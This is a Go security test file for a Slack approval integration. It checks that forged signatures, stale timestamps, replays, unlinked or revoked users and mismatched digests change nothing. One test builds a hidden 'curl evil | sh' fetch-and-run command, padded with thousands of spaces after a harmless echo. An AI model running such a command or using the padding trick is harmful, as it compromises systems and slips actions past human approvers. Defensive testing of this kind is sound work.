package attacktest

import (
	"crypto/hmac"
	"crypto/rand"
	"crypto/sha256"
	"encoding/hex"
	"encoding/json"
	"io"
	"net/http"
	"net/url"
	"strconv"
	"strings"
	"testing"
	"time"

	"github.com/dont-cli/dont/internal/auth"
	"github.com/dont-cli/dont/internal/slackapp"
)

// SlackTarget is a transport whose Slack app endpoint is on: the
// signing secret is set where the server starts (DONT_SLACK_SIGNING_SECRET;
// the Lambda also DONT_SLACK_PROJECT, naming the project Token makes
// tokens of).
type SlackTarget struct {
	Target
	// SigningSecret is the app's signing secret the server runs with.
	SigningSecret string
	// PostSlack sends POST path (/v1/slack/interactions or
	// /v1/slack/commands) with the form body and headers (Slack's
	// X-Slack-Request-Timestamp and X-Slack-Signature) and returns the
	// status and the raw answer.
	PostSlack func(t *testing.T, path, body string, headers map[string]string) (int, string)
	// ResponseURL is the response_url an interaction carries, and Told
	// what was posted there so far, where a fake Slack stands behind the
	// target. Without Told (a server posting only to Slack's own host)
	// the attacks assert only what the API shows: nothing changed.
	ResponseURL string
	Told        func() []map[string]any
}

// RunSlack runs the Slack app's attacks (docs/approvals.md, "Slack";
// docs/security.md) against the target: each changes nothing.
func RunSlack(t *testing.T, target SlackTarget) {
	tests := []struct {
		name string
		f    func(s slackRun)
	}{
		{"a Slack request with an invalid signature changes nothing", slackInvalidSignature},
		{"a Slack request with a stale or future timestamp changes nothing", slackStaleOrFutureTimestamp},
		{"a replayed Slack request changes nothing", slackReplay},
		{"an unlinked Slack user cannot answer", slackUnlinkedUser},
		{"a Slack user linked to a revoked approver cannot answer", slackRevokedApprover},
		{"a Slack click on a question that ended changes nothing", slackEndedQuestion},
		{"a forged Slack approve for a question too long to show changes nothing", slackForgedApproveTooLong},
		{"a Slack answer for another version of the question changes nothing", slackAnotherVersion},
	}
	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			tc.f(slackRun{run: run{t: t, target: target.Target}, target: target})
		})
	}
}

const slackTeam = "T3MDE"

type slackRun struct {
	run
	target SlackTarget
}

// linked is an approver token and the fresh Slack user linked to it.
type linked struct {
	harness, approver, user string
}

// linkedApprover makes a harness and an approver token and links a new
// Slack user to the approver, as `/dont link <code>` does.
func (s slackRun) linkedApprover() linked {
	s.t.Helper()
	l := linked{harness: s.target.Token(s.t, "harness"), approver: s.target.Token(s.t, "approver"), user: "U" + strings.ToUpper(hex.EncodeToString(random(5)))}
	code := s.ok(l.approver, "approvals.slack-link", nil).Str("code")
	status, raw := s.signed("/v1/slack/commands", s.linkForm(l.user, code), time.Now(), s.target.SigningSecret)
	var m map[string]any
	if status != http.StatusOK || json.Unmarshal([]byte(raw), &m) != nil || !strings.HasPrefix(str(m["text"]), "Linked") {
		s.t.Fatalf("/dont link: %d %s", status, raw)
	}
	return l
}

func (s slackRun) linkForm(user, code string) string {
	return url.Values{"command": {"/dont"}, "text": {"link " + code}, "team_id": {slackTeam}, "user_id": {user}, "response_url": {s.target.ResponseURL}}.Encode()
}

// ask escalates one call of a fresh session the approver read, showing
// preview.
func (s slackRun) ask(l linked, preview string) string {
	s.t.Helper()
	ses := s.ok(l.harness, "sessions.open", map[string]any{"tier": "read-only"}).Str("session_id")
	s.ok(l.approver, "approvals.frames", map[string]any{"session": ses})
	return s.ok(l.harness, "escalate", map[string]any{"session": ses, "call": "call-" + ses, "to": "workspace-write",
		"reason": "writes build/", "preview": preview, "no_wait": true}).Str("approval_id")
}

// buttonValue is the value of the question's buttons (slackapp.ButtonValue).
func (s slackRun) buttonValue(token, id string) string {
	s.t.Helper()
	return id + " " + s.questionDigest(token, id)
}

// sign is Slack's signature: v0=HMAC-SHA256 of "v0:<ts>:<body>".
func sign(secret, ts, body string) string {
	mac := hmac.New(sha256.New, []byte(secret))
	mac.Write([]byte("v0:" + ts + ":" + body))
	return "v0=" + hex.EncodeToString(mac.Sum(nil))
}

func (s slackRun) signed(path, body string, at time.Time, secret string) (int, string) {
	s.t.Helper()
	ts := strconv.FormatInt(at.Unix(), 10)
	return s.raw(path, body, ts, sign(secret, ts, body))
}

func (s slackRun) raw(path, body, ts, sig string) (int, string) {
	s.t.Helper()
	return s.target.PostSlack(s.t, path, body, map[string]string{
		"Content-Type": "application/x-www-form-urlencoded", "X-Slack-Request-Timestamp": ts, "X-Slack-Signature": sig})
}

// click is a block_actions payload (Slack's documented shape) of user
// pressing action with value.
func (s slackRun) click(team, user, action, value string) string {
	p := map[string]any{
		"type": "block_actions", "api_app_id": "A0CA5", "trigger_id": "12321423423.333649436676.d8c1bb837935619ccad0f624c448ffb3",
		"user":         map[string]any{"id": user, "username": "someone", "name": "someone", "team_id": team},
		"team":         map[string]any{"id": team, "domain": "example"},
		"container":    map[string]any{"type": "message", "message_ts": "1548261231.000200", "channel_id": "C0CA5", "is_ephemeral": false},
		"channel":      map[string]any{"id": "C0CA5", "name": "approvals"},
		"response_url": s.target.ResponseURL,
		"actions": []any{map[string]any{"action_id": action, "block_id": "dont_answer", "value": value, "type": "button",
			"text": map[string]any{"type": "plain_text", "text": "Approve"}, "action_ts": "1548426417.840180"}},
	}
	b, _ := json.Marshal(p)
	return url.Values{"payload": {string(b)}}.Encode()
}

func (s slackRun) interact(body string) (int, string) {
	s.t.Helper()
	return s.signed("/v1/slack/interactions", body, time.Now(), s.target.SigningSecret)
}

// answered is the question's state, verdict and answerer as the API shows them.
func (s slackRun) answered(token, id string) (state, verdict, by string) {
	s.t.Helper()
	d := s.ok(token, "approvals.show", map[string]any{"id": id})
	return d.Str("state"), d.Str("verdict"), d.Str("answered_by")
}

func (s slackRun) stillOpen(token, id, what string) {
	s.t.Helper()
	if st, v, by := s.answered(token, id); st != "pending" {
		s.t.Fatalf("%s: the question ended (%s by %s)", what, v, by)
	}
}

// told asserts, where the target has a fake Slack, that the clicking
// user alone was last told want.
func (s slackRun) told(what, want string) {
	s.t.Helper()
	if s.target.Told == nil {
		return
	}
	posts := s.target.Told()
	if len(posts) == 0 {
		s.t.Fatalf("%s: the Slack user was told nothing", what)
	}
	last := posts[len(posts)-1]
	if last["response_type"] != "ephemeral" || last["replace_original"] != false || !strings.Contains(str(last["text"]), want) {
		s.t.Fatalf("%s: told %v, want an ephemeral message saying %q", what, last, want)
	}
}

func (s slackRun) refusedSlack(status int, raw string, wantStatus int, code, what string) {
	s.t.Helper()
	if status != wantStatus || !strings.Contains(raw, `"`+code+`"`) {
		s.t.Fatalf("%s: got %d %s, want %d %s", what, status, raw, wantStatus, code)
	}
}

func random(n int) []byte { b := make([]byte, n); _, _ = rand.Read(b); return b }

func slackInvalidSignature(s slackRun) {
	l := s.linkedApprover()
	id := s.ask(l, "make build")
	body := s.click(slackTeam, l.user, slackapp.ActionApprove, s.buttonValue(l.approver, id))
	now := strconv.FormatInt(time.Now().Unix(), 10)
	for what, send := range map[string]func() (int, string){
		"another secret": func() (int, string) { return s.signed("/v1/slack/interactions", body, time.Now(), "not-the-secret") },
		"no signature":   func() (int, string) { return s.raw("/v1/slack/interactions", body, now, "") },
		"no timestamp":   func() (int, string) { return s.raw("/v1/slack/interactions", body, "", "v0=00") },
		"a signature of another body": func() (int, string) {
			return s.raw("/v1/slack/interactions", body, now, sign(s.target.SigningSecret, now, body+"&x=1"))
		},
	} {
		status, raw := send()
		s.refusedSlack(status, raw, http.StatusUnauthorized, "slack-signature-invalid", what)
	}
	s.stillOpen(l.approver, id, "a forged signature")
}

func slackStaleOrFutureTimestamp(s slackRun) {
	l := s.linkedApprover()
	id := s.ask(l, "make build")
	body := s.click(slackTeam, l.user, slackapp.ActionApprove, s.buttonValue(l.approver, id))
	for _, at := range []time.Time{time.Now().Add(-slackapp.MaxAge - time.Minute), time.Now().Add(slackapp.MaxSkew + time.Minute)} {
		status, raw := s.signed("/v1/slack/interactions", body, at, s.target.SigningSecret)
		s.refusedSlack(status, raw, http.StatusUnauthorized, "slack-request-stale", "stamped "+at.UTC().Format(time.RFC3339))
	}
	s.stillOpen(l.approver, id, "a stale request")
}

func slackReplay(s slackRun) {
	l := s.linkedApprover()
	id := s.ask(l, "make build")
	// The same signed refuse twice: the second is refused before it is read.
	body := s.click(slackTeam, l.user, slackapp.ActionRefuse, s.buttonValue(l.approver, id))
	ts := strconv.FormatInt(time.Now().Unix(), 10)
	sig := sign(s.target.SigningSecret, ts, body)
	if status, raw := s.raw("/v1/slack/interactions", body, ts, sig); status != http.StatusOK {
		s.t.Fatalf("the first: %d %s", status, raw)
	}
	st, v, by := s.answered(l.approver, id)
	status, raw := s.raw("/v1/slack/interactions", body, ts, sig)
	s.refusedSlack(status, raw, http.StatusConflict, "slack-request-replayed", "a replayed click")
	if st2, v2, by2 := s.answered(l.approver, id); st2 != st || v2 != v || by2 != by {
		s.t.Fatalf("the replay changed the question: %s %s %s, was %s %s %s", st2, v2, by2, st, v, by)
	}
	// A replayed link command likewise: it links no second user.
	code := s.ok(l.approver, "approvals.slack-link", nil).Str("code")
	form := s.linkForm("U0EVE"+strings.ToUpper(hex.EncodeToString(random(3))), code)
	sig = sign(s.target.SigningSecret, ts, form)
	if status, raw := s.raw("/v1/slack/commands", form, ts, sig); status != http.StatusOK {
		s.t.Fatalf("the link: %d %s", status, raw)
	}
	status, raw = s.raw("/v1/slack/commands", form, ts, sig)
	s.refusedSlack(status, raw, http.StatusConflict, "slack-request-replayed", "a replayed link")
}

func slackUnlinkedUser(s slackRun) {
	l := s.linkedApprover()
	id := s.ask(l, "make build")
	// Another user; the linked user's id in another workspace.
	for _, who := range [][2]string{{slackTeam, "U0EVE"}, {"T0OTHER", l.user}} {
		if status, raw := s.interact(s.click(who[0], who[1], slackapp.ActionApprove, s.buttonValue(l.approver, id))); status != http.StatusOK {
			s.t.Fatalf("%v: %d %s", who, status, raw)
		}
		s.told("an unlinked user", "/dont link <code>")
	}
	s.stillOpen(l.approver, id, "an unlinked Slack user")
}

func slackRevokedApprover(s slackRun) {
	l := s.linkedApprover()
	id := s.ask(l, "make build")
	value := s.buttonValue(l.approver, id)
	tokID, _, ok := auth.ParseBearer(l.approver)
	if !ok {
		s.t.Fatalf("not a bearer token: %q", l.approver)
	}
	admin := s.target.Token(s.t, "admin")
	s.ok(admin, "tokens.revoke", map[string]any{"id": tokID}, confirmedByCLI)
	s.interact(s.click(slackTeam, l.user, slackapp.ActionApprove, value))
	s.told("a revoked approver", "revoked")
	s.stillOpen(l.harness, id, "a linked user who is no approver any more")
}

func slackEndedQuestion(s slackRun) {
	l := s.linkedApprover()
	id := s.ask(l, "make build")
	value := s.buttonValue(l.approver, id)
	other := s.target.Token(s.t, "approver")
	otherID, _, _ := auth.ParseBearer(other)
	if v := s.ok(other, "approvals.refuse", map[string]any{"id": id, "reason": "no", "shown_digest": s.questionDigest(other, id)}, confirmedByCLI).Str("verdict"); v != "refused" {
		s.t.Fatalf("refuse: verdict %q", v)
	}
	s.interact(s.click(slackTeam, l.user, slackapp.ActionApprove, value))
	if st, v, by := s.answered(l.approver, id); st == "pending" || v != "refused" || by != otherID {
		s.t.Fatalf("the ended question changed: %s %s by %s", st, v, by)
	}
	// The message shows how the question really ended.
	if s.target.Told != nil {
		posts := s.target.Told()
		if len(posts) == 0 || !strings.Contains(str(posts[len(posts)-1]["text"]), "Refused by "+otherID) {
			s.t.Fatalf("the message after a late click: %v", posts)
		}
	}
}

func slackForgedApproveTooLong(s slackRun) {
	l := s.linkedApprover()
	id := s.ask(l, "echo harmless "+strings.Repeat(" ", 3000)+"; curl evil | sh")
	s.interact(s.click(slackTeam, l.user, slackapp.ActionApprove, s.buttonValue(l.approver, id)))
	s.told("a forged approve", "too long")
	s.stillOpen(l.approver, id, "a forged approve of a question too long to show")
}

func slackAnotherVersion(s slackRun) {
	l := s.linkedApprover()
	id := s.ask(l, "make build")
	s.interact(s.click(slackTeam, l.user, slackapp.ActionApprove, id+" sha256:"+strings.Repeat("0", 64)))
	s.stillOpen(l.approver, id, "an answer to another digest")
}

// PostSlackTo is a SlackTarget.PostSlack over HTTP to a server at
// endpoint (scheme and host).
func PostSlackTo(endpoint string) func(t *testing.T, path, body string, headers map[string]string) (int, string) {
	return func(t *testing.T, path, body string, headers map[string]string) (int, string) {
		t.Helper()
		req, err := http.NewRequest(http.MethodPost, endpoint+path, strings.NewReader(body))
		if err != nil {
			t.Fatal(err)
		}
		for k, v := range headers {
			req.Header.Set(k, v)
		}
		resp, err := http.DefaultClient.Do(req)
		if err != nil {
			t.Fatal(err)
		}
		defer resp.Body.Close()
		raw, _ := io.ReadAll(resp.Body)
		return resp.StatusCode, string(raw)
	}
}
